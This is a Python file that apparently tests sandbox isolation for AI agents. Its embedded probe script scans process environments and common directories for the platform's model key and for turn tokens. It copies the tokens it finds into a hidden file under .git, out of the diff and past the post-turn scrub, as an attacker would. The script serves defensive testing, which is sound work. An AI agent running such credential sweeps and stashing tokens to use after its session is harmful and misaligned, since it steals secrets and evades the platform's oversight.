"""The probe an agent runs inside its sandbox during a turn, looking for the platform's model key
and for turn tokens everywhere a process there can read: every /proc/*/environ and
/proc/*/cmdline, and every file under the workspace (its .git and the CLIs' state directories
included), $HOME, /root, /tmp, /var/tmp, /etc and /run.

It is given only the key's SHA-256, its length and its first characters, never the key: it
hashes what follows each occurrence of that prefix. It prints one line for the session's log
(``{"kind": "message", ...}``: where the key and tokens were found, and each token's SHA-256),
and copies the tokens it found to ``/workspace/.git/leaked-tokens`` (in the sandbox, out of the
diff and of what the platform scrubs after a CLI's turn) — as an attacker would, to use them
after the turn.
"""

PROBE = r"""
import hashlib, json, os, re, sys

key_sha256, key_length, prefix = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()
TOKEN = re.compile(rb"iwt_[A-Za-z0-9_-]{43}")
ROOTS = ["/workspace", os.environ.get("HOME") or "/root", "/root", "/tmp", "/var/tmp", "/etc",
         "/run"]
MAX_BYTES = 8 * 1024 * 1024


def holds_key(data):
    start = data.find(prefix)
    while start != -1:
        if hashlib.sha256(data[start:start + key_length]).hexdigest() == key_sha256:
            return True
        start = data.find(prefix, start + 1)
    return False


def read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read(MAX_BYTES)
    except OSError:
        return b""


places = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        places += [f"/proc/{pid}/environ", f"/proc/{pid}/cmdline"]
seen = set()
for root in ROOTS:
    for top, dirs, files in os.walk(root):
        for name in files:
            path = os.path.join(top, name)
            if path not in seen and not os.path.islink(path) and os.path.isfile(path):
                seen.add(path)
                places.append(path)

key_hits, token_hits, tokens = [], [], set()
for place in places:
    data = read(place)
    if not data:
        continue
    if holds_key(data):
        key_hits.append(place)
    found = set(TOKEN.findall(data))
    if found:
        token_hits.append(place)
        tokens |= found
with open("/workspace/.git/leaked-tokens", "wb") as out:
    out.write(b"\n".join(sorted(tokens)))
report = {
    "searched": len(places),
    "key_hits": key_hits,
    "token_hits": len(token_hits),
    "token_in_own_environ": bool(TOKEN.search(read("/proc/self/environ"))),
    "token_sha256": sorted(hashlib.sha256(t).hexdigest() for t in tokens),
}
print(json.dumps({"kind": "message", "data": {"text": "PROBE " + json.dumps(report)}}))
"""
